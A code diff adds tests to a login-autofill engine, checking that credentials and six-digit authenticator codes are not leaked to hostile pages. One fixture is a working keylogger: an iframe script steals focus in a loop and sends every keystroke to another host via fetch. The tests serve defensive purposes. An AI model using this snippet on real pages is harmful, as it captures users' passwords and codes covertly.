@@ -4,7 +4,7 @@ import { TIMEOUTS } from '../../activities/login/index.js';
 import type { Grant } from '../../activities/vault/types.js';
 import type { FillResult } from '../../contract/steps.js';
 import { type Bench, bench, inputOf, testPages } from '../engine/login/harness.js';
-import { copies, SUBMISSIONS } from '../sites/hostile/leaks.js';
+import { BUTTONS, copies, MOVED, SUBMISSIONS } from '../sites/hostile/leaks.js';
 import { type HostileSite, loginForm, type Places, type Site, serveHostile, WELCOME } from '../sites/hostile/serve.js';
 
 /** Short: pages whose submission was stopped never answer. */
@@ -24,6 +24,7 @@ afterAll(() => pages.closeAll());
 /** More of a run. */
 interface More {
   readonly other?: (places: Places) => Site;
+  readonly value?: (name: string) => string;
   readonly grant?: (site: HostileSite) => Partial<Grant>;
 }
 
@@ -37,7 +38,7 @@ interface Run {
 async function logIn(
   own: (places: Places) => Site,
   check: (run: Run) => void | Promise<void>,
-  { other, grant }: More = {},
+  { other, grant, value = (name) => (name === 'email' ? EMAIL : PASSWORD) }: More = {},
 ): Promise<void> {
   const site = await serveHostile(own, other);
   const b = bench(pages, site.host, { login: { timeouts: QUICK } });
@@ -45,7 +46,7 @@ async function logIn(
   try {
     const { page, outcome } = await b.open();
     const seen = inputOf(outcome);
-    const values = Object.fromEntries(seen.fields.map(({ name }) => [name, name === 'email' ? EMAIL : PASSWORD]));
+    const values = Object.fromEntries(seen.fields.map(({ name }) => [name, value(name)]));
     const end = await b.fill(page, seen, values);
     await b.activities.closePage({ ...b.ref, page });
     await check({ end, site, b });
@@ -56,12 +57,59 @@ async function logIn(
 }
 
 describe('a password that its site would have sent elsewhere', () => {
-  it.each(SUBMISSIONS)('$name', async ({ own, how }) => {
+  it.each([...SUBMISSIONS, ...BUTTONS])('$name', async ({ own, how }) => {
     await logIn(own, ({ end, site }) => {
       expect(site.taken).toEqual([]);
       expect(end).toMatchObject({ kind: 'failed', code: 'domain_not_allowed' });
       expect(end).toMatchObject({ details: { host: site.otherHost, how, add: 'send_to' } });
     });
+  });
+});
+
+describe('a press', () => {
+  it.each(MOVED)('$name', async ({ own }) => {
+    await logIn(own, ({ end, site }) => {
+      expect(site.taken).toEqual([]);
+      expect(end).toMatchObject({ kind: 'authenticated' });
+    });
+  });
+});
+
+describe('a code in boxes, beside a frame of another site that takes the focus all the time', () => {
+  const boxes = [1, 2, 3, 4, 5, 6].map(
+    (n) => `<input name="c${n}" maxlength="1" size="1" inputmode="numeric" aria-label="Digit ${n}">`,
+  );
+  const thief = `<input id="in"><script>
+    const again = new MessageChannel();
+    again.port1.onmessage = () => { document.getElementById('in').focus(); setTimeout(() => again.port2.postMessage(0), 1); };
+    again.port2.postMessage(0);
+    for (const kind of ['keydown', 'input']) addEventListener(kind, ({ key, data }) => fetch('/take/' + (key ?? data)), true);
+  </script>`;
+  const form = (script = ''): string => `<h1>Enter the code of your authenticator app</h1>
+    <form method="post" action="/login">${boxes.join('')}<button>Verify</button></form>${script}`;
+  const frame = ({ other }: Places): string => `<iframe src="${other}/thief"></iframe>`;
+  // Such a page writes by itself what a keyboard sends, and nothing else.
+  const BY_KEY = `<script>
+    for (const box of document.querySelectorAll('input')) {
+      box.onbeforeinput = (event) => event.preventDefault();
+      box.onkeydown = (event) => { if (event.isTrusted && /^\\d$/.test(event.key)) box.value = event.key; };
+    }
+  </script>`;
+
+  it.each([
+    ['is inserted box by box', '', true],
+    ['is typed by keys where the page takes nothing else, or not at all', BY_KEY, false],
+  ])('%s, and no digit goes there', async (_, script, surely) => {
+    await logIn(
+      (places) => ({ '/': form(script) + frame(places), 'POST /login': WELCOME }),
+      ({ site, end }) => {
+        expect(site.taken).toEqual([]);
+        const arrived = site.received.find((line) => line.startsWith('POST /login'));
+        if (surely || end.kind === 'authenticated') expect(arrived).toContain('c1=4&c2=8&c3=2&c4=9&c5=1&c6=3');
+        else expect(arrived).toBeUndefined();
+      },
+      { other: () => ({ '/thief': thief }), value: () => '482913' },
+    );
   });
 });
 
